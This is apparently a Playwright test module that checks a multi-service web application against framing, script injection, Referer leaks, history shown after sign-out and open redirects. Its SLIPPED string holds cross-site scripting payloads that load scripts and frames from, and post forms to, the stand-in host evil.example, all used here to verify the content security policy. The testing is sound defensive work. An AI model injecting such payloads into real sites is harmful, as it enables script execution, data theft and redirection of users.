"""Every page of every service in a real browser: in a stranger's frame, when it is left, and after sign-out."""

from __future__ import annotations

from collections.abc import Iterator
from dataclasses import dataclass, field

import pytest
from playwright.sync_api import Dialog, Page, Route
from playwright.sync_api import Request as Asked
from starlette.applications import Starlette
from starlette.requests import Request
from starlette.responses import HTMLResponse, Response
from starlette.routing import Route as Address

from shared.embedded.processes import free_port
from shared.web import session
from shared.web.access import Open, Role
from shared.web.signin import own_path
from tests.browser.conftest import Watched, WatchedPage
from tests.misuse.access.redirects import ELSEWHERE
from tests.servers.every_door import Door, doors
from tests.servers.served import served
from tests.servers.two_forces import HOME, TwoForces

pytestmark = pytest.mark.timeout(300)

NO_PAGE = {
    "/health/live",
    "/health/ready",
    "/health/ready/bus",
    "/metrics",
    "/openapi.json",
    "/asyncapi.json",
    "/theme.css",
    "/signin",
    "/signin/callback",
    "/logo",
    "/record/worker.js",
    "/record/{walk_id}/photos/{photo}",
    "/staff/campaigns/{code}/qr.svg",
    "/forces/{force}/calendar/{token}.ics",
}
"""What people do not look at. Whatever else a GET answers is a page and is tried here."""


def pages(world: TwoForces) -> list[tuple[Door, str]]:
    """Every page with something on it: its door and a whole address. A parameter nobody knows here fails."""
    home = world.work[HOME]
    known = {
        "walk_id": list(home.walks.values()),
        "follow_up_id": [home.follow_up],
        "concern_id": [home.noted],
        "referral_id": list(home.referrals.values()),
        "request_id": [home.requests["taken"]],
        "force": [HOME],
        "step": ["eligibility", "place"],
        "number": ["1"],
        "token": [home.survey],
        "what": ["given-back", "to-officer", "to-team", "to-coordinator"],
        "officer_id": ["officer-avon-1"],
        # Of these the two forces have none yet: what they show is seen to where they are tested.
        "patrol_id": [],
        "session_id": [],
        "disclosure_id": [],
    }
    found = []
    for door in doors():
        if door.method != "GET" or door.is_call or door.path in NO_PAGE or door.path.startswith("/scim/"):
            continue
        filled: list[dict[str, str]] = [{}]
        for name in door.in_path:
            values = [home.private] if name == "token" and door.service == "intake" else known[name]
            filled = [{**one, name: value} for one in filled for value in values]
        if "concern_id" in door.in_path:
            filled = [one for one in filled if one.get("walk_id") == home.walks["arranged"]]
        found += [(door, world.stack.urls[door.service] + door.at(values)) for values in filled]
    return found


def cookies(world: TwoForces, role: Role = Role.COORDINATOR) -> dict[str, str]:
    """The browser of somebody in this role, which has begun a form as well."""
    signed_in = world.visitor(HOME, role).session
    return {f"walkandtalk-{session.COOKIE}": signed_in, "sitting": world.work[HOME].sitting}


@dataclass
class Stranger:
    """Another site: pages that frame what they are told to, and what browsers told it."""

    origin: str
    told: list[tuple[str, str | None]] = field(default_factory=list)

    @property
    def app(self) -> Starlette:
        async def answer(request: Request) -> Response:
            self.told.append((request.url.path, request.headers.get("referer")))
            frames = "".join(f'<iframe src="{address}"></iframe>' for address in request.query_params.getlist("frame"))
            return HTMLResponse(f"<!doctype html><title>x</title><p id=here>here</p>{frames}")

        return Starlette(routes=[Address("/{path:path}", answer, methods=["GET", "POST"])])


@pytest.fixture(scope="module")
def stranger() -> Iterator[Stranger]:
    port = free_port()
    found = Stranger(f"http://localhost:{port}")
    with served(found.app, port):
        yield found


def test_no_page_can_be_framed(two_forces: TwoForces, stranger: Stranger, watched_page: WatchedPage) -> None:
    """In a frame of another page, signed in as ever, no page of any service shows: not of another site, nor our own."""
    watched = watched_page(stranger.origin, cookies=cookies(two_forces))
    addresses = [address for _, address in pages(two_forces)]
    assert len(addresses) > 40
    framed = [f"{stranger.origin}/framed", *addresses]
    watched.page.goto(f"{stranger.origin}/?" + "&".join(f"frame={address}" for address in framed), wait_until="load")
    shown = [frame.url for frame in watched.page.frames[1:]]
    assert len(shown) == len(framed)
    # The stranger's own page can be framed, so the rest could have been seen as well.
    assert [url for url in shown if not url.startswith("chrome-error:")] == [f"{stranger.origin}/framed"]


def strange_in(page: Page) -> list[str]:
    """Handlers, scripts and addresses on a page that run something."""
    found: list[str] = page.evaluate(
        """() => [...document.querySelectorAll('*')].flatMap(one => [...one.attributes].filter(attribute =>
            attribute.name.startsWith('on') || /^\\s*(javascript|data|vbscript):/i.test(attribute.value)
        ).map(attribute => one.outerHTML.slice(0, 200))).concat(
            [...document.scripts].map(one => one.outerHTML).filter(one => one.includes('planted')))"""
    )
    return found


def watch_for_planted(watched: Watched) -> list[str]:
    """What runs of what was planted, and what is referred to, on the pages opened from now on."""
    ran: list[str] = []

    def answer(dialog: Dialog) -> None:
        ran.append(dialog.message)
        dialog.dismiss()

    def look(request: Asked) -> None:
        if request.headers.get("referer"):
            ran.append(f"referred {request.url}")

    watched.context.expose_function("planted", lambda what: ran.append(f"planted {what}"))
    watched.page.on("dialog", answer)
    watched.page.on("pageerror", lambda error: ran.append(str(error)))
    watched.page.on("request", look)
    return ran


def test_words_planted_in_every_field_stay_words(two_forces: TwoForces, watched_page: WatchedPage) -> None:
    """With scripts and handlers typed into every field that takes words, each page shows them as words: nothing runs,
    nothing is left for the content policy to stop, nothing is asked of another origin, and nothing tells where from."""
    origins = {address.partition("/")[2][1:].partition("/")[0] for _, address in pages(two_forces)}
    assert len(origins) == 4
    showing, seen = 0, dict[str, list[bool]]()
    for service, origin in two_forces.stack.urls.items():
        if service not in two_forces.stack.services:
            continue
        watched = watched_page(origin, cookies=cookies(two_forces))
        ran = watch_for_planted(watched)
        for door, address in pages(two_forces):
            if door.service == service:
                who = next(role for role in (Role.COORDINATOR, *Role) if door.admits(role))
                watched.context.add_cookies(
                    [{"name": name, "value": value, "url": origin} for name, value in cookies(two_forces, who).items()]
                )
                answer = watched.page.goto(address, wait_until="load")
                # A walk that is taken is not routed anew, and a request is of one walk alone.
                assert answer is not None and (answer.status < 400 or answer.status in (404, 409)), address
                seen.setdefault(str(door), []).append(answer.status < 400)
                assert strange_in(watched.page) == [], address
                assert (ran, address) == ([], address)
                showing += "planted(1)" in watched.page.inner_text("body")
                assert "7*7" in watched.page.content() or "planted" not in watched.page.content()
        if service == "intake":
            watched.context.add_cookies(
                [{"name": name, "value": value, "url": origin} for name, value in cookies(two_forces).items()]
            )
            # Who she is shows after a reason was given.
            watched.page.goto(f"{origin}/staff/requests/{two_forces.work[HOME].requests['taken']}/contact")
            watched.page.locator("[name=reason]").fill("To agree a time")
            watched.page.locator("main form button").click()
            assert "planted(1)" in watched.page.inner_text("main")
            assert (strange_in(watched.page), ran) == ([], [])
        watched.assert_kept_to_itself()
    assert showing >= 4
    # Neither force here asks for a request to be confirmed.
    assert {door for door, shown in seen.items() if not any(shown)} == {"intake GET /confirm/{token}"}


SLIPPED = """
<script>planted('inline')</script><img src=x onerror="planted('handler')"><svg onload="planted('svg')"></svg>
<a id=link href="javascript:planted('link')">x</a><script src="https://evil.example/x.js"></script>
<iframe src="https://evil.example/"></iframe><iframe srcdoc="<script>parent.planted('srcdoc')</script>"></iframe>
<object data="https://evil.example/x"></object><embed src="https://evil.example/x"><base href="https://evil.example/">
<link rel=stylesheet href="https://evil.example/x.css"><style>body { background: url(https://evil.example/b) }</style>
<form id=away action="https://evil.example/" method=post><input name=x></form>
<meta http-equiv=refresh content="900;url=https://evil.example/"><video src="https://evil.example/v"></video>
"""


@pytest.mark.parametrize("path", ["", "/nothing-is-here"])
def test_policy_stops_what_slips_through_all_the_same(
    two_forces: TwoForces, watched_page: WatchedPage, path: str
) -> None:
    """Were a page, or an error page, of any service to let markup through: no script, handler, frame or form of it
    does anything, under the very headers the service sent."""
    for service in two_forces.stack.services:
        origin = two_forces.stack.urls[service]
        watched = watched_page(origin, cookies=cookies(two_forces))
        ran = watch_for_planted(watched)
        stopped: dict[str, str] = {}

        def slip(route: Route) -> None:
            answer = route.fetch()
            route.fulfill(response=answer, body=answer.text().replace("<main", SLIPPED + "<main", 1))

        address = f"{origin}{path or '/docs'}"
        watched.page.route(address, slip)
        watched.page.on("requestfailed", lambda request: stopped.update({request.url: request.failure or ""}))  # noqa: B023 - within the round
        watched.page.goto(address, wait_until="load")
        assert watched.page.locator("#link").count() == 1
        watched.page.evaluate("document.getElementById('link').click(); document.getElementById('away').submit()")
        watched.page.evaluate("new Promise(done => setTimeout(done, 50))")
        assert watched.page.url == address
        assert [one for one in ran if one.startswith("planted")] == []
        assert [url for url in watched.foreign if stopped.get(url) != "csp"] == []
        kinds = {refusal.split()[0] for refusal in watched.refused}
        assert {"script-src-elem", "script-src-attr", "frame-src", "base-uri", "form-action", "style-src-elem"} <= kinds


def test_leaving_a_page_tells_nobody_which(
    two_forces: TwoForces, stranger: Stranger, watched_page: WatchedPage
) -> None:
    """Whoever follows a link from a page of ours, with a secret in its address or without, takes no Referer along."""
    watched = watched_page(stranger.origin, cookies=cookies(two_forces))
    left = {(door.service, door.path): address for door, address in pages(two_forces) if "{" in door.path}
    stranger.told.clear()
    for number, address in enumerate(left.values()):
        watched.page.goto(address)
        watched.page.evaluate(
            "to => document.body.append(Object.assign(document.createElement('a'), {href: to, id: 'leave'}))",
            f"{stranger.origin}/{number}",
        )
        watched.page.evaluate("document.getElementById('leave').click()")
        watched.page.wait_for_url(f"{stranger.origin}/{number}")
    assert [referer for path, referer in stranger.told if path != "/favicon.ico"] == [None] * len(left)


def test_going_back_after_sign_out_shows_nothing(two_forces: TwoForces, watched_page: WatchedPage) -> None:
    """The pages somebody looked at before the sign-out are asked for anew when the next person goes back to them, and
    lead to the sign-in."""
    urls = two_forces.stack.urls
    watched = watched_page(urls["assignment"], cookies=cookies(two_forces))
    page = watched.page
    # One page of each kind.
    kinds = {
        (door.service, door.path): address
        for door, address in pages(two_forces)
        if not isinstance(door.rule, Open) and door.admits(Role.COORDINATOR)
    }
    visited = list(kinds.values())
    shown = []
    for address in visited:
        answer = page.goto(address)
        if answer is not None and answer.ok and page.url == address:
            shown.append(address)
    assert len(shown) > 15
    page.goto(urls["assignment"] + "/queue")
    page.get_by_role("button", name="Sign out").click()
    page.wait_for_url("**/signed-out")
    seen = []
    for _ in range(len(visited)):
        page.go_back()
        if page.url.startswith(tuple(urls[service] for service in two_forces.stack.services)):
            seen.append(page.url)
    assert seen == []


def test_browser_agrees_where_a_sign_in_may_lead(two_forces: TwoForces, watched_page: WatchedPage) -> None:
    """What we take for a path of our own is one to the browser too, however the address was written."""
    origin = two_forces.stack.urls["intake"]
    watched = watched_page(origin)
    watched.page.goto(origin)
    read = "all => all.map(one => { try { return new URL(one, location.href).origin } catch { return 'none' } })"
    led = watched.page.evaluate(read, [own_path(one) for one in ELSEWHERE])
    assert set(led) == {origin}
    # Taken as they are, most of them would have led away.
    away = [one for one in watched.page.evaluate(read, list(ELSEWHERE)) if one not in (origin, "none")]
    assert len(away) > len(ELSEWHERE) / 3
